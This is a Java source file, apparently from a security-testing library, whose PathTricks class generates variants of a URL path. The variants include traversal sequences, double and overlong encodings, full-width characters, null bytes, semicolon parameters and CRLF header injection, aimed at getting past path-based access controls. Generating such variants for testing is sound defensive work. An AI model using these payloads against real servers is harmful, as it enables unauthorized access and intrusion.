package dev.keystile.examples.messaging;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/**
 * Paths that some server somewhere takes for a given one, although they are written otherwise. They are
 * given byte for byte, as ISO 8859-1.
 */
final class PathTricks {

    private static final String FULL_WIDTH_DOT = "\u00ef\u00bc\u008e";
    private static final String FULL_WIDTH_SLASH = "\u00ef\u00bc\u008f";

    private static final List<String> UPWARDS = List.of(
            "/..",
            "/%2e%2e",
            "/.%2E",
            "/%2e.",
            "/..;",
            "/..;a=b",
            "/%2e%2e%3b",
            "%2f..",
            "%2F%2e%2e",
            "/..%2f.",
            "\\..",
            "%5c..",
            "/%252e%252e",
            "/%25252e%25252e",
            "/%c0%ae%c0%ae",
            "/%e0%80%ae%e0%80%ae",
            "/%f0%80%80%ae%f0%80%80%ae",
            "/\u00c0\u00ae\u00c0\u00ae",
            "/%u002e%u002e",
            "/..%00",
            "/%00..",
            "/" + FULL_WIDTH_DOT + FULL_WIDTH_DOT,
            "/%ef%bc%8e%ef%bc%8e",
            "/..%20",
            "/...");

    private static final List<String> SEPARATORS = List.of(
            "//",
            "///",
            "/./",
            "/%2e/",
            "/.;/",
            "%2f",
            "%2F",
            "%252f",
            "/%2f",
            "%5c",
            "\\",
            "%255c",
            ";/",
            ";x=1/",
            "/;/",
            "/;x/",
            "%3b/",
            "%3Bx/",
            "%00/",
            "/%00",
            "%c0%af",
            "%e0%80%af",
            "\u00c0\u00af",
            "%u002f",
            FULL_WIDTH_SLASH,
            "%ef%bc%8f",
            "%0a/",
            "/%0d%0a");

    private static final List<String> ENDS = List.of(
            "/",
            "//",
            "/.",
            "/./",
            "/x/..",
            "/%2e",
            "%2f",
            "%252f",
            "\\",
            "%5c",
            ";",
            ";/",
            ";x",
            ";x=/../",
            "%3b",
            "%3bx",
            "%00",
            "%00.png",
            "%01",
            "%09",
            "%0a",
            "%0d%0aX: y",
            "%7f",
            "?",
            "??",
            "?x=/../..",
            "%3f",
            "%3fx",
            "#",
            "#/../..",
            "%23",
            "%",
            "%2",
            "%zz",
            "%%",
            "%u",
            "\u00e9",
            "\u0080",
            "%ff",
            "%c3",
            "%c3%28");

    private static final List<String> BEGINNINGS = List.of(
            "http://api.example",
            "HTTP://API.EXAMPLE:80",
            "https://elsewhere.example",
            "http://user:word@api.example",
            "http://api.example/",
            "http://api.example/..",
            "http://api.example?x=",
            "http:",
            "ftp://api.example",
            "/http://api.example",
            "//api.example",
            "/",
            "/.",
            "/..",
            "/x/..",
            "/%2e%2e",
            "/;x",
            "\\",
            "%2f",
            "*",
            "?",
            "#",
            ".");

    private PathTricks() {}

    /**
     * Ways of writing a path.
     *
     * @param cover a path that may be called, from which some of them start
     */
    static List<String> of(String path, String cover) {
        List<String> all = new ArrayList<>();
        all.add(path);
        UPWARDS.forEach(up -> all.add(cover + up.repeat(segments(cover)) + path));
        UPWARDS.forEach(up -> all.add(path + "/x" + up));
        for (String separator : SEPARATORS) {
            all.add("/" + path.substring(1).replace("/", separator));
            all.add(beforeLast(path) + separator + last(path));
        }
        ENDS.forEach(end -> all.add(path + end));
        BEGINNINGS.forEach(beginning -> all.add(beginning + path));
        all.add(path.substring(1));
        letters(path, all);
        return all;
    }

    private static int segments(String path) {
        return (int) path.chars().filter(c -> c == '/').count();
    }

    private static String beforeLast(String path) {
        return path.substring(0, path.lastIndexOf('/'));
    }

    private static String last(String path) {
        return path.substring(path.lastIndexOf('/') + 1);
    }

    /** The last word in other letters, and all words. */
    private static void letters(String path, List<String> all) {
        String before = beforeLast(path) + "/";
        String last = last(path);
        String rest = last.substring(1);
        all.add(path.toUpperCase(Locale.ROOT));
        all.add(before + last.toUpperCase(Locale.ROOT));
        all.add(before + last.substring(0, 1).toUpperCase(Locale.ROOT) + rest);
        all.add(escaped(path, "%%%02x").replace("%2f", "/"));
        all.add(before + escaped(last, "%%%02X"));
        all.add(before + escaped(last.toUpperCase(Locale.ROOT), "%%%02x"));
        all.add(before + escaped(last, "%%25%02x"));
        all.add(before + escaped(last, "%%2525%02x"));
        all.add(before + escaped(last, "%%u00%02x"));
        all.add(before + escaped(last, "%%%%32%%35%02x"));
        all.add(before + last.replace("s", "%c5%bf").replace("k", "%e2%84%aa").replace("i", "%c4%b1"));
        all.add(before + last.replace("s", "\u00c5\u00bf").replace("k", "\u00e2\u0084\u00aa"));
        all.add(before + overlong(last));
        all.add(before + fullWidth(last));
    }

    private static String escaped(String text, String format) {
        StringBuilder escaped = new StringBuilder();
        text.chars().forEach(c -> escaped.append(String.format(Locale.ROOT, format, c)));
        return escaped.toString();
    }

    private static String overlong(String text) {
        StringBuilder bytes = new StringBuilder();
        text.chars().forEach(c -> bytes.append(String.format(Locale.ROOT, "%%c%x%%%02x", c >> 6, 0x80 | (c & 0x3f))));
        return bytes.toString();
    }

    private static String fullWidth(String text) {
        StringBuilder bytes = new StringBuilder();
        text.chars().forEach(c -> bytes.append(escaped(utf8(c + 0xfee0), "%%%02x")));
        return bytes.toString();
    }

    private static String utf8(int character) {
        byte[] bytes = Character.toString(character).getBytes(java.nio.charset.StandardCharsets.UTF_8);
        return new String(bytes, java.nio.charset.StandardCharsets.ISO_8859_1);
    }
}
